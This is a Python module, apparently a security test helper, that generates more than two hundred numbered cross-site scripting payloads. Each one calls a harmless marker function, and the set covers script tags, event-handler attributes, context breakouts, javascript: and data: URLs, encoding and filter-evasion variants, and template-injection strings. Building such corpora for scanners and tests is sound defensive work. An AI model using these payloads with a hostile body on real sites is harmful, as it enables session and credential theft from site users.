"""Texts that would run a script if a page took them for markup; each would say so by ``__hit`` or a dialog."""

from collections.abc import Iterator
from itertools import product
from typing import Final

_TAGS: Final = (
    "<img src=x {0}={1}>", "<svg {0}={1}>", "<body {0}={1}>", "<video src=x {0}={1}></video>", "<input autofocus {0}={1}>",
    "<details open {0}={1}>x</details>", "<iframe {0}={1}></iframe>", "<object data=x {0}={1}></object>", "<a href=# {0}={1}>x</a>",
    "<select autofocus {0}={1}></select>", "<marquee {0}={1}>x</marquee>", "<x {0}={1} tabindex=1 autofocus>x</x>",
)  # fmt: skip
_EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_BREAKS: Final = ("{0}", '">{0}', "'>{0}", "</title>{0}", "</textarea>{0}", "</pre>{0}", "--><!--{0}", "]]>{0}")
_WHOLE: Final = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script\x0c>{0}</script>",
    "<script/x>{0}</script >",
    "<<script>{0}//<</script>",
    "</script><script>{0}</script>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<template><script>{0}</script></template><script>{0}</script>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src='javascript:parent.{0}'></iframe>",
    "<a href='javascript:{0}' autofocus>x</a>",
    "<a href=' \x01javascript:{0}'>x</a>",
    "<form action='javascript:{0}'><button autofocus>x</button></form>",
    "<button formaction='javascript:{0}'>x</button>",
    "<base href='javascript:{0}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload='{0}'>",
    "<style>@import 'javascript:{0}';</style>",
    "<div style='background:url(javascript:{0})'>x</div>",
    "<embed src='data:text/html,<script>{0}</script>'>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "'-{0}-'",
    '"-{0}-"',
    "`${{{0}}}`",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{{{0}}}}}",
    "{{% raw %}}<script>{0}</script>{{% endraw %}}",
    "\u2028<script>{0}</script>\u2029",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<img src=`x`onerror={0}>",
    '"onfocus={0} autofocus="',
    "'onfocus={0} autofocus='",
    " onfocus={0} autofocus ",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0} xmlns=http://www.w3.org/2000/svg/>#x'></svg>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<math href='javascript:{0}'>x</math>",
    "\x00<script>{0}</script>",
    "<scr\x00ipt>{0}</scr\x00ipt>",
)


def payloads() -> Iterator[str]:
    """Give more than two hundred, each with a number of its own."""
    number = 0
    for form in _WHOLE:
        yield form.format(f"__hit({number})")
        number += 1
    for tag, event in product(_TAGS, _EVENTS):
        yield _BREAKS[number % len(_BREAKS)].format(tag.format(event, f"__hit({number})"))
        number += 1
    for event, breaks in product(_EVENTS, _BREAKS):
        yield breaks.format(f"<img src=x {event}=&#95;_hit({number})>")
        yield breaks.format(f"<svg/{event}=__hit({number + 1})>")
        number += 2
